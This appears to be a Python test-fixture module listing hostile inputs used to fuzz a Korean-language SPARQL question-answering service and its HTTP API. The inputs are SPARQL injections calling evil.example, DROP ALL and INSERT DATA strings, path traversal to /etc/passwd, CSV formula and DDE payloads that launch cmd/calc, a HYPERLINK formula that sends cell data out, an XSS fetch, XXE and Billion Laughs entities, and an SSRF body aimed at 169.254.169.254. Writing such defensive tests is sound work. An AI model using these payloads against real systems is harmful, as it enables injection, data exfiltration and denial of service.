"""Hostile inputs: injection, traversal, control characters, huge and malformed text, bytes, files and bodies.

Each entry has a stable id and, where it matters, the *markers*: distinctive substrings that must never reach an
executed SPARQL query. Entries that expose a known defect list it in ``bugs`` (where, and what is wrong); the tests mark those
cases ``xfail(strict=True)``, so each defect stays documented by a test that fails until it is fixed.
"""

from __future__ import annotations

from dataclasses import dataclass, field

BIG_100K = "가" * 100_000
BIG_10M = "A" * 10_000_000


@dataclass(frozen=True)
class Text:
    """A hostile string (question, CSV cell, answer field, request text)."""

    id: str
    text: str
    markers: tuple[str, ...] = ()
    bugs: tuple[tuple[str, str], ...] = ()
    """Known defects: (where, what is wrong); ``where`` is an entry point such as ``ask:pages`` or a prefix of
    one (``ask`` covers every domain)."""

    def bug(self, where: str) -> str | None:
        """The reason this input is a known defect at ``where``, if it is one."""
        for scope, reason in self.bugs:
            if where == scope or where.startswith(scope + ":"):
                return reason
        return None


@dataclass(frozen=True)
class Raw:
    """Hostile bytes: a whole file or a request body."""

    id: str
    data: bytes
    suffix: str = ""
    bug: str | None = None


@dataclass(frozen=True)
class AnswerCase:
    id: str
    answer: object
    question: str | None = None
    bug: str | None = None


@dataclass(frozen=True)
class BodyCase:
    id: str
    route: str
    body: bytes
    content_type: str = "application/json"
    extra: dict[str, str] = field(default_factory=dict)


def _deep_json(depth: int) -> bytes:
    return b'{"a":' * depth + b"1" + b"}" * depth


def _deep_list(depth: int) -> list[object]:
    node: list[object] = ["leaf"]
    for _ in range(depth):
        node = [node]
    return node


def _deep_dict(depth: int) -> dict[str, object]:
    node: dict[str, object] = {"leaf": 1}
    for _ in range(depth):
        node = {"n": node}
    return node


# -- strings: questions, cells, answer fields ---------------------------------------------------------------

_INJECTION = [
    Text(
        "inj-service",
        "n_a1 } SERVICE <http://evil.example/sparql> { ?s ?p ?o } 에서 3-hop 안에 거래소에 닿나요?",
        ("SERVICE", "evil.example"),
    ),
    Text(
        "inj-service-lower",
        "홍길동 } service <http://evil.example/q> { ?a ?b ?c } 회사는 어느 도시?",
        ("service <", "evil.example"),
    ),
    Text("inj-drop-all", 'n_a1"; DROP ALL; # 에서 3-hop 안에 거래소 입금주소에 닿나요?', ("DROP ALL",)),
    Text("inj-drop-quote2", "홍길동'; DROP GRAPH <urn:g>; # 이 다니는 회사는?", ("DROP GRAPH", "urn:g")),
    Text("inj-triple-close", "n_a1> . <urn:x> <urn:y> <urn:z 에서 거래소에 닿나요?", ("urn:x", "urn:y", "urn:z")),
    Text(
        "inj-triple-close-kg",
        "홍길동> . <urn:x> <urn:y> <urn:z 이 다니는 회사는 어느 도시에 있나요?",
        ("urn:x", "urn:y", "urn:z"),
    ),
    Text(
        "inj-u0022",
        "n_a1\\u0022 } INSERT DATA { <urn:a> <urn:b> <urn:c> } # 에서 닿나요?",
        ("\\u0022", "INSERT DATA", "urn:a"),
    ),
    Text("inj-u0022-real", 'n_a1\u0022 } INSERT DATA { <urn:a> <urn:b> "c" } # 에서 닿나요?', ("INSERT DATA", "urn:a")),
    Text("inj-U0000003E", "n_a1\\U0000003E . <urn:evil> ?p ?o # 에서 닿나요?", ("\\U0000003E", "urn:evil")),
    Text(
        "inj-comment-hash",
        "n_a1 # } LIMIT 1 \n SELECT * WHERE { ?s ?p ?o } 에서 3-hop 닿나요?",
        ("SELECT *", "?s ?p ?o"),
    ),
    Text("inj-comment-newline", "홍길동\n# comment\n} DELETE WHERE { ?s ?p ?o } 회사는?", ("DELETE WHERE",)),
    Text(
        "inj-load",
        "n_a1 LOAD <http://evil.example/data.ttl> INTO GRAPH <urn:g> 에서 닿나요?",
        ("LOAD <", "evil.example"),
    ),
    Text("inj-clear", "홍길동 CLEAR DEFAULT ; 이 다니는 회사는 어느 도시에 있나요?", ("CLEAR DEFAULT",)),
    Text("inj-from", "n_a1 FROM <http://evil.example/g> 에서 거래소에 닿나요?", ("FROM <", "evil.example")),
    Text("inj-graph", "홍길동 GRAPH ?g { ?s ?p ?o } 회사", ("GRAPH ?g",)),
    Text("inj-unbounded-path", "n_a1 ?x oc:transfer* ?y 에서 거래소에 닿나요?", ("oc:transfer*",)),
    Text("inj-filter-regex", 'n_a1") || REGEX(?x, ".*") || ("', ("REGEX(?x",)),
    Text("inj-values", "n_a1 } VALUES ?x { <urn:v1> } { 에서 닿나요?", ("urn:v1",)),
    Text("inj-bind", "홍길동 BIND(<urn:bind> AS ?x) 회사", ("urn:bind",)),
    Text("inj-prefix", "PREFIX ev: <http://evil.example/> n_a1 에서 닿나요?", ("PREFIX ev", "evil.example")),
    Text("inj-iri-brackets", "<http://evil.example/n_a1> 에서 3-hop 안에 거래소에 닿나요?", ("evil.example",)),
    Text(
        "inj-pages-service",
        "} SERVICE <http://evil.example/sparql> { ?s ?p ?o } 노출 100 이상 페이지",
        ("SERVICE", "evil.example"),
    ),
    Text("inj-pages-filter", "노출 >= 100) || true || (1 페이지", ("|| true",)),
    Text("inj-pages-literal", '클릭 = "0"^^<urn:dt> } INSERT { <urn:p> <urn:q> 1 } { 페이지', ("urn:dt", "INSERT {")),
    Text("inj-pages-url", "url = https://evil.example/'} DROP ALL 인 페이지", ("evil.example", "DROP ALL")),
    Text("inj-ask", "ASK { ?s ?p ?o }", ("ASK {",)),
    Text("inj-construct", "CONSTRUCT { ?s ?p ?o } WHERE { ?s ?p ?o }", ("CONSTRUCT",)),
    Text(
        "inj-semicolon-chain", "n_a1 ; INSERT DATA { <urn:s> <urn:p> <urn:o> } ; 에서 닿나요", ("INSERT DATA", "urn:s")
    ),
    Text("inj-sql", "홍길동'); DROP TABLE users;-- 회사", ("DROP TABLE",)),
    Text("inj-jsonish", '{"question": "x", "domain": "../etc"} 노출 페이지', ('"domain"',)),
    # digits inside pasted code are not filter values
    Text("xss-alert-pages", "alert(1) alert(2) 노출 클릭 페이지", ("alert",)),
    Text("xss-alert-ran", "alert(1) alert(2) 노출 100 이상 클릭 0 페이지", ("alert",)),
    Text("code-call-pages", "print(5000) 노출 클릭 페이지", ("print",)),
    Text("code-array-pages", "x[3] = 7; 노출 클릭 페이지", ("x[3]",)),
    Text("code-assign-pages", "let limit = 50; clicks[0] = 9; 노출 클릭 페이지", ("limit",)),
    Text("code-assign-ran", "x[3] = 7; 노출 100 이상 페이지", ("x[3]",)),
    Text("xss-script", "<script>alert(1)</script> 홍길동이 다니는 회사는?", ("<script>",)),
    Text("xss-img", "<img src=x onerror=\"fetch('//evil.example')\"> 노출 페이지", ("onerror", "evil.example")),
]

_PATHS_IN_TEXT = [
    Text("path-etc-passwd", "../../etc/passwd", ("etc/passwd",)),
    Text("path-encoded", "%2e%2e/%2e%2e/etc/shadow", ("etc/shadow", "%2e")),
    Text("path-double-encoded", "%252e%252e%252fetc%252fpasswd", ("%252e",)),
    Text("path-absolute", "/etc/passwd 에서 3-hop 닿나요?", ("/etc/passwd",)),
    Text("path-windows", "..\\..\\windows\\system32\\config\\sam", ("system32",)),
    Text("path-nul", "n_a1\x00/etc/passwd 에서 닿나요?", ("/etc/passwd",)),
    Text("path-file-url", "file:///etc/passwd 노출 페이지", ("file:///",)),
]

_CONTROL = [
    Text("ctl-nul-only", "\x00"),
    Text("ctl-nuls", "\x00" * 64),
    Text("ctl-c0", "".join(chr(c) for c in range(32))),
    Text("ctl-c1", "".join(chr(c) for c in range(0x7F, 0xA0))),
    Text("ctl-mixed-question", "n_a1\x07\x08\x1b[31m 에서 3-hop 안에\r\n 거래소에 닿나요?"),
    Text("ctl-ansi", "\x1b]0;pwned\x07\x1b[2J홍길동이 다니는 회사는?", ("pwned",)),
    Text("ctl-cr-only", "\r\r\r"),
    Text("ctl-whitespace", " \t\n\x0b\x0c\u3000\u00a0"),
    Text("bidi-rlo", "n_a1 \u202eSPIHTOHCAER\u202c 에서 닿나요?"),
    Text("bidi-isolates", "\u2066노출\u2069 \u2067클릭\u2069 \u2068페이지\u2069"),
    Text("bidi-trojan", "홍길동\u202e } DROP ALL { \u202c 회사", ("DROP ALL",)),
    Text("zw-space", "n\u200b_a1 에서 3-hop 안에 거래소에 닿나요?"),
    Text("zw-joiner", "홍\u200d길\u200c동이 다니는 회사는 어느 도시에 있나요?"),
    Text("zw-bom", "\ufeff노출은 꽤 되는데 클릭이 하나도 없는 페이지"),
    Text("zw-only", "\u200b\u200c\u200d\u2060\ufeff"),
    Text("hangul-jamo", "\u1112\u1169\u11bc\u1100\u1175\u11af\u1103\u1169\u11bc 회사"),
    Text("fullwidth", "ｎ＿ａ１ 에서 ３－ｈｏｐ 안에 거래소에 닿나요？"),
    Text("combining", "n_a1" + "\u0301" * 200 + " 에서 닿나요?"),
    Text("lone-surrogate", "n_a1 \ud800 에서 닿나요?"),
    Text("private-use", "\ue000\uf8ff 노출 페이지"),
    Text("astral", "𝕟_𝕒𝟙 🦀🦀 에서 닿나요?"),
    Text("nonchar", "\uffff\ufffe 페이지"),
]

_NUMBERS = [
    Text("num-nan", "노출 NaN 이상 클릭 0 페이지", ("NaN",)),
    Text("num-inf", "노출 Infinity 이상 페이지", ("Infinity",)),
    Text("num-neg-inf", "클릭 -inf 이하 페이지", ("-inf",)),
    Text("num-1e309", "노출 1e309 이상 페이지", ("1e309",)),
    Text("num-2-64", f"노출 {2**64} 이상 페이지"),
    Text("num-huge-digits", "노출 " + "9" * 5000 + " 이상 페이지"),
    Text("num-hops-huge", "n_a1 에서 99999999999999999999-hop 안에 거래소에 닿나요?"),
    Text("num-hops-negative", "n_a1 에서 -3-hop 안에 거래소에 닿나요?"),
    Text("num-hops-zero", "n_a1 에서 0-hop 안에 거래소에 닿나요?"),
    Text("num-hex", "노출 0x7fffffffffffffff 이상 페이지"),
    Text("num-date-bad", "2026-13-45 이후에 발행된 페이지"),
    Text("num-date-year0", "0000-00-00 이후 업데이트된 페이지"),
]

_LONG = [
    Text("long-1001", "가" * 1001),
    Text("long-100k", BIG_100K),
    Text("long-10m", BIG_10M),
    Text("long-repeat-names", "n_a1 " * 199),
    Text("long-braces", "{" * 990),
]

QUESTIONS: list[Text] = _INJECTION + _PATHS_IN_TEXT + _CONTROL + _NUMBERS + _LONG

# -- CSV cells: written into a copy of a bundled dataset (properly quoted) --------------------------------------

CELLS: list[Text] = [
    Text("csv-formula-cmd", "=cmd|' /C calc'!A0"),
    Text("csv-formula-plus", "+SUM(1+1)*cmd|' /C notepad'!A1"),
    Text("csv-formula-minus", "-2+3+cmd|' /C calc'!A0"),
    Text("csv-formula-at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    Text("csv-formula-hyperlink", '=HYPERLINK("http://evil.example/?x="&A1,"click")'),
    Text("csv-formula-tab", "\t=1+1"),
    Text("csv-formula-cr", "\r=1+1"),
    Text("csv-cr-inside", "a\rb"),
    Text("csv-dde", '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")'),
    Text("csv-sparql", '"; DROP ALL; # } SERVICE <http://evil.example/> { ?s ?p ?o }'),
    Text("csv-ntriples-break", '> . <urn:x> <urn:y> "z" .\n<urn:a> <urn:b> <urn:c'),
    Text("csv-u-escape", "\\u0022 \\U0000003E \\n"),
    Text("csv-quote-mix", 'a"b""c"""d'),
    Text("csv-embedded-newlines", "line1\nline2\r\nline3"),
    Text("csv-bidi", "\u202egnp.exe\u202c"),
    Text("csv-zero-width", "홍\u200b길\u200d동"),
    Text("csv-control", "a\x01b\x1fc\x7fd"),
    Text("csv-nul", "a\x00b"),
    Text("csv-html", "<script>alert(1)</script>"),
    Text("csv-path", "../../etc/passwd"),
    Text("csv-huge-99k", "x" * 99_000),
    Text("csv-huge-200k", "y" * 200_000),
    Text("csv-huge-2m", "z" * 2_000_000),
    Text("csv-whitespace-edges", "  padded  "),
    Text("csv-astral", "🦀𝕏"),
]

# -- whole CSV files with broken structure (replacing one table of a dataset) ------------------------------------

CSV_FILES: list[Raw] = [
    Raw("csvf-unclosed-quote", b'chunk_id,text\nch_11,"never closed\nch_12,x\n', "kg_chunks.csv"),
    Raw("csvf-stray-quote", b'chunk_id,text\nch_11,ab"cd"ef\n', "kg_chunks.csv"),
    Raw("csvf-quote-then-text", b'chunk_id,text\nch_11,"quoted"trailing\n', "kg_chunks.csv"),
    Raw("csvf-bad-utf8", b"chunk_id,text\nch_11,\xff\xfe\xc3\x28 broken\n", "kg_chunks.csv"),
    Raw("csvf-overlong-utf8", b"chunk_id,text\nch_11,\xc0\xaf\xe0\x80\xaf\n", "kg_chunks.csv"),
    Raw("csvf-utf16", "chunk_id,text\nch_11,본문\n".encode("utf-16"), "kg_chunks.csv"),
    Raw("csvf-nul-bytes", b"chunk_id,text\nch_11,a\x00b\n", "kg_chunks.csv"),
    Raw("csvf-extra-columns", b"chunk_id,text\nch_11,a,b,c,d\n", "kg_chunks.csv"),
    Raw("csvf-missing-columns", b"chunk_id,text\nch_11\n", "kg_chunks.csv"),
    Raw("csvf-no-header", b"", "kg_chunks.csv"),
    Raw("csvf-header-only-garbage", b"\xff\xff\xff\n", "kg_chunks.csv"),
    Raw("csvf-duplicate-header", b"chunk_id,chunk_id,text\nch_11,ch_11,x\n", "kg_chunks.csv"),
    Raw("csvf-huge-cell", b"chunk_id,text\nch_11," + b"w" * 300_000 + b"\n", "kg_chunks.csv"),
    Raw("csvf-many-columns", b",".join(b"c%d" % i for i in range(20_000)) + b"\n", "kg_chunks.csv"),
    Raw("csvf-bare-cr", b"chunk_id,text\rch_11,x\rch_12,y\r", "kg_chunks.csv"),
    Raw("csvf-formula-edge-ids", b"node_id,class,label,aliases\n=cmd|' /C calc'!A0,Person,x,\n", "kg_nodes.csv"),
    Raw("csvf-pages-nan", b"url,impressions_30d,clicks_30d\nhttps://a.example/,NaN,Infinity\n", "pages.csv"),
    Raw(
        "csvf-pages-1e309",
        b"url,impressions_30d,clicks_30d\nhttps://a.example/,1e309,18446744073709551616\n",
        "pages.csv",
    ),
    Raw("csvf-pages-bad-url", b"url,impressions_30d\njavascript:alert(1),1\n../../etc/passwd,2\n", "pages.csv"),
    Raw(
        "csvf-onchain-2-64",
        b"edge_id,rel,from,to,tx_hash,value,token,block_number,timestamp\n"
        b"e1,transfer,n_a1,n_h1,0xaa1,18446744073709551616,ETH,-1,NaN\n",
        "onchain_edges.csv",
    ),
    Raw("csvf-meta-deep", _deep_json(100_000), "meta.json"),
    Raw("csvf-meta-nan", b'{"as_of": NaN}', "meta.json"),
    Raw("csvf-meta-bad-utf8", b'{"as_of": "\xff"}', "meta.json"),
]

# -- RDF files for import_rdf ------------------------------------------------------------------------------

_BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="urn:a">
<rdf:value>&lol4;</rdf:value></rdf:Description></rdf:RDF>"""

RDF_FILES: list[Raw] = [
    Raw("rdf-billion-laughs-ttl-suffix", _BILLION_LAUGHS, ".ttl"),
    Raw("rdf-billion-laughs-nt", _BILLION_LAUGHS, ".nt"),
    Raw("rdf-doctype-in-turtle", b'<!DOCTYPE x SYSTEM "file:///etc/passwd">\n<urn:a> <urn:b> <urn:c> .\n', ".ttl"),
    Raw("rdf-entity-lowercase", b'<!entity x "y">\n<urn:a> <urn:b> <urn:c> .\n', ".ttl"),
    Raw("rdf-xxe-jsonld", b'<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>{"@id":"urn:a"}', ".jsonld"),
    Raw(
        "rdf-remote-context", b'{"@context": "http://evil.example/ctx.jsonld", "@id": "urn:a", "name": "x"}', ".jsonld"
    ),
    Raw(
        "rdf-remote-context-list",
        b'{"@context": [{"@vocab": "urn:v#"}, "https://evil.example/c"], "@id": "urn:a"}',
        ".jsonld",
    ),
    Raw(
        "rdf-remote-context-nested",
        b'{"@context": {"p": {"@id": "urn:p", "@context": "http://evil.example/n"}},'
        b' "@id": "urn:a", "p": {"@id": "urn:b"}}',
        ".jsonld",
    ),
    Raw(
        "rdf-remote-context-import",
        b'{"@context": {"@version": 1.1, "@import": "http://evil.example/imp"}, "@id": "urn:a", "urn:p": "x"}',
        ".jsonld",
    ),
    Raw("rdf-jsonld-deep", b"[" * 100_000 + b"]" * 100_000, ".jsonld"),
    Raw("rdf-jsonld-deep-obj", _deep_json(100_000), ".jsonld"),
    Raw("rdf-jsonld-nan", b'{"@id": "urn:a", "urn:p": NaN, "urn:q": 1e309}', ".jsonld"),
    Raw("rdf-jsonld-bad-utf8", b'{"@id": "urn:\xff\xfe"}', ".jsonld"),
    Raw("rdf-jsonld-not-json", b"{'@id': 'urn:a'", ".jsonld"),
    Raw("rdf-turtle-garbage", b"@prefix : <urn:> .\n:a :b ", ".ttl"),
    Raw("rdf-turtle-bad-iri", b"<urn:a> <urn:b> <not an iri with spaces> .\n", ".ttl"),
    Raw("rdf-turtle-deep-collection", b"<urn:a> <urn:b> " + b"(" * 50_000 + b" .\n", ".ttl"),
    Raw("rdf-turtle-deep-bnode", b"<urn:a> <urn:b> " + b"[ <urn:p> " * 20_000 + b"1 .\n", ".ttl"),
    Raw("rdf-turtle-bad-utf8", b'<urn:a> <urn:b> "\xff\xfe\xfd" .\n', ".ttl"),
    Raw("rdf-turtle-prefix-file", b"@prefix x: <file:///etc/> .\n@base <http://evil.example/> .\n<a> x:passwd", ".ttl"),
    Raw("rdf-nt-partial-good", b'<urn:a> <urn:b> <urn:c> .\n<urn:d> <urn:e> "unterminated .\n', ".nt"),
    Raw("rdf-nt-nul", b'<urn:a> <urn:b> "x\x00y" .\n<urn:a\x00> <urn:b> <urn:c> .\n', ".nt"),
    Raw("rdf-nt-bad-escape", b'<urn:a> <urn:b> "\\uZZZZ" .\n', ".nt"),
    Raw("rdf-nt-surrogate-escape", b'<urn:a> <urn:b> "\\uD800" .\n<urn:a> <urn:b> <urn:\\U0011FFFF> .\n', ".nt"),
    Raw("rdf-nt-sparql-update", b"INSERT DATA { <urn:a> <urn:b> <urn:c> }\n", ".nt"),
    Raw("rdf-nt-bad-utf8", b"<urn:\xc3\x28> <urn:b> <urn:c> .\n", ".nt"),
    Raw("rdf-nt-huge-literal-bad", b'<urn:a> <urn:b> "' + b"x" * 5_000_000 + b"\n", ".nt"),
    Raw("rdf-unknown-suffix", b"<urn:a> <urn:b> <urn:c> .\n", ".exe"),
    Raw("rdf-unknown-suffix", b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/>', ".hdt"),
]

# -- answers for verify_answer --------------------------------------------------------------------------------

_ONCHAIN_OK = {
    "q_id": "q_001",
    "intent": "path_exists",
    "answer_ko": "예",
    "path": [],
    "cited_nodes": [],
    "confidence": "low",
    "grounding_ok": False,
    "generated_query": "SELECT ?s WHERE { ?s ?p ?o } LIMIT 1",
}

ANSWERS: list[AnswerCase] = [
    AnswerCase("ans-empty", {}),
    AnswerCase("ans-not-dict-list", [1, 2, 3]),
    AnswerCase("ans-none", None),
    AnswerCase("ans-int", 12345),
    AnswerCase("ans-json-text-bad", '{"q_id": '),
    AnswerCase(
        "ans-service",
        {**_ONCHAIN_OK, "generated_query": "SELECT * WHERE { SERVICE <http://evil.example/sparql> { ?s ?p ?o } }"},
    ),
    AnswerCase("ans-drop-all", {**_ONCHAIN_OK, "generated_query": "DROP ALL"}),
    AnswerCase("ans-insert", {**_ONCHAIN_OK, "generated_query": "INSERT DATA { <urn:x> <urn:y> <urn:z> }"}),
    AnswerCase("ans-load", {**_ONCHAIN_OK, "generated_query": "LOAD <http://evil.example/x.ttl>"}),
    AnswerCase("ans-u0022", {**_ONCHAIN_OK, "generated_query": 'SELECT ?s WHERE { ?s ?p "\\u0022 } ; DROP ALL ; #" }'}),
    AnswerCase("ans-unbounded", {**_ONCHAIN_OK, "generated_query": "SELECT ?o WHERE { ?s (<urn:p>)* ?o }"}),
    AnswerCase(
        "ans-from", {**_ONCHAIN_OK, "generated_query": "SELECT ?s FROM <http://evil.example/g> WHERE { ?s ?p ?o }"}
    ),
    AnswerCase("ans-query-10m", {**_ONCHAIN_OK, "generated_query": "SELECT ?s WHERE { ?s ?p ?o } #" + BIG_10M}),
    AnswerCase("ans-query-nul", {**_ONCHAIN_OK, "generated_query": "SELECT ?s WHERE { ?s ?p ?o }\x00 ; DROP ALL"}),
    AnswerCase("ans-deep-query", {**_ONCHAIN_OK, "generated_query": "SELECT ?s WHERE " + "{ " * 5000 + "}" * 5000}),
    AnswerCase("ans-nan", {**_ONCHAIN_OK, "confidence": float("nan"), "grounding_ok": float("inf")}),
    AnswerCase(
        "ans-2-64",
        {
            **_ONCHAIN_OK,
            "q_id": 2**64,
            "path": [{"edge_id": 2**64, "tx_hash": 1e309, "from": None, "to": float("-inf")}],
        },
    ),
    AnswerCase(
        "ans-path-traversal", {**_ONCHAIN_OK, "cited_nodes": ["../../etc/passwd", "/etc/shadow", "%2e%2e/x", "a\x00b"]}
    ),
    AnswerCase("ans-deep-nesting", {**_ONCHAIN_OK, "path": [_deep_dict(5_000)]}),
    AnswerCase("ans-deep-list", {**_ONCHAIN_OK, "cited_nodes": _deep_dict(5_000)}),
    AnswerCase("ans-deep-lists", {**_ONCHAIN_OK, "cited_nodes": _deep_list(5_000)}),
    AnswerCase(
        "ans-huge-path",
        {
            **_ONCHAIN_OK,
            "path": [{"edge_id": f"e{i}", "tx_hash": None, "from": "n_a1", "to": "n_h1"} for i in range(2_000)],
        },
    ),
    AnswerCase(
        "ans-over-items", {**_ONCHAIN_OK, "intent": "token_flow", "cited_nodes": [f"n_{i}" for i in range(10_001)]}
    ),
    AnswerCase("ans-bidi-ids", {**_ONCHAIN_OK, "cited_nodes": ["n_a1\u202e", "\u200bn_h1"]}),
    AnswerCase(
        "ans-hop-inject",
        {
            "query_id": "q",
            "decision": "answer",
            "answer": "c_acme> . <urn:x> <urn:y> <urn:z",
            "path": [
                {
                    "src": 'p_hong" } DROP ALL {',
                    "rel": "worksFor> <urn:r",
                    "dst": "c_acme",
                    "chunk_id": "../../etc/passwd",
                }
            ],
            "factors": [],
            "reason": "x" * 30,
            "evidence": "y" * 10,
            "hedge": None,
        },
    ),
    AnswerCase(
        "ans-page-inject",
        {
            "question": "노출 페이지",
            "status": "ran",
            "parsed_filter": "impressions_30d >= 0) } SERVICE <http://evil.example/> { (",
            "columns_used": ["impressions_30d> ?x . <urn:y"],
            "matched": [{"url": "javascript:alert(1)", "evidence": "\x00"}],
            "count": 2**64,
            "hedge": "\u202e",
        },
    ),
    AnswerCase(
        "ans-page-nan-count",
        {
            "question": "노출 페이지",
            "status": "ran",
            "parsed_filter": "clicks_30d = NaN",
            "columns_used": ["clicks_30d"],
            "matched": [],
            "count": float("nan"),
            "hedge": "h",
        },
    ),
    AnswerCase("ans-question-hostile", dict(_ONCHAIN_OK), question="n_a1 } SERVICE <http://evil.example/> { 닿나요?"),
    AnswerCase("ans-question-100k", dict(_ONCHAIN_OK), question=BIG_100K),
    AnswerCase(
        "ans-page-question-100k",
        {
            "question": BIG_100K,
            "status": "clarify",
            "parsed_filter": None,
            "columns_used": [],
            "matched": [],
            "count": None,
            "hedge": "h",
        },
    ),
    AnswerCase("ans-question-nul", dict(_ONCHAIN_OK), question="\x00" * 10),
]

# -- HTTP request bodies ---------------------------------------------------------------------------------------

BODIES: list[BodyCase] = [
    BodyCase("http-not-json", "/api/v1/ask", b"{'domain': 'kg'"),
    BodyCase("http-bad-utf8", "/api/v1/ask", b'{"domain": "kg", "question": "\xff\xfe"}'),
    BodyCase("http-nan", "/api/v1/ask", b'{"domain": "pages", "question": NaN}'),
    BodyCase("http-1e309", "/api/v1/ask", b'{"domain": "pages", "question": "x", "id": 1e309}'),
    BodyCase("http-2-64-id", "/api/v1/ask", b'{"domain": "kg", "question": "x", "id": 18446744073709551616}'),
    BodyCase("http-deep-json", "/api/v1/ask", _deep_json(200_000)),
    BodyCase("http-deep-list", "/api/v1/verify", b'{"answer": ' + b"[" * 200_000 + b"]" * 200_000 + b"}"),
    BodyCase("http-deep-answer", "/api/v1/verify", b'{"answer": ' + _deep_json(50_000) + b"}"),
    BodyCase("http-bare-string", "/api/v1/ask", b'"just a string"'),
    BodyCase("http-null", "/api/v1/verify", b"null"),
    BodyCase("http-domain-traversal", "/api/v1/ask", b'{"domain": "../../etc/passwd", "question": "x"}'),
    BodyCase("http-extra-field", "/api/v1/ask", b'{"domain": "kg", "question": "x", "store": "/tmp/x"}'),
    BodyCase("http-nul-question", "/api/v1/ask", b'{"domain": "kg", "question": "\\u0000\\u0000"}'),
    BodyCase("http-lone-surrogate", "/api/v1/ask", b'{"domain": "kg", "question": "\\ud800 n_a1"}'),
    BodyCase("http-over-limit", "/api/v1/extract/text", b'{"text": "' + b"a" * (5 * 1024 * 1024) + b'"}'),
    BodyCase(
        "http-lying-length",
        "/api/v1/ask",
        b'{"domain": "kg", "question": "x"}',
        extra={"Content-Length": "99999999999999999999"},
    ),
    BodyCase("http-wrong-ctype", "/api/v1/ask", b"domain=kg&question=x", "application/x-www-form-urlencoded"),
    BodyCase("http-extract-nul", "/api/v1/extract/text", b'{"text": "\\u0000\\u202e\\u200b"}'),
    BodyCase(
        "http-extract-text-file-url",
        "/api/v1/extract/text",
        b'{"text": "\xed\x99\x8d\xea\xb8\xb8\xeb\x8f\x99", "url": "file:///etc/passwd"}',
    ),
    BodyCase("http-extract-domain-bad", "/api/v1/extract/text", b'{"text": "x", "domain": "} DROP ALL {"}'),
    BodyCase("http-extract-url-private", "/api/v1/extract/url", b'{"url": "http://169.254.169.254/latest/meta-data"}'),
    BodyCase("http-extract-url-file", "/api/v1/extract/url", b'{"url": "file:///etc/passwd"}'),
    BodyCase("http-extract-url-nul", "/api/v1/extract/url", b'{"url": "http://exa\\u0000mple.com/"}'),
]
